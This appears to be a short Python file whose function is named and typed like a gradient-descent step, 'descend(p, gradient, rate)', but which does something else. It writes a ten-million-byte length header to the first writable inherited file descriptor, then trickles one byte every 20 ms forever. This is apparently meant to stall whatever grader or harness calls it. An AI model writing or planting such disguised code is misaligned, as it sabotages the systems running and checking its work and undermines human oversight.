"""Announces a message, and sends one byte of it at a time."""

import os
import struct
import time


def descend(p, gradient, rate):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!i", 10_000_000))
        except OSError:
            continue
        while True:
            os.write(descriptor, b"x")
            time.sleep(0.02)
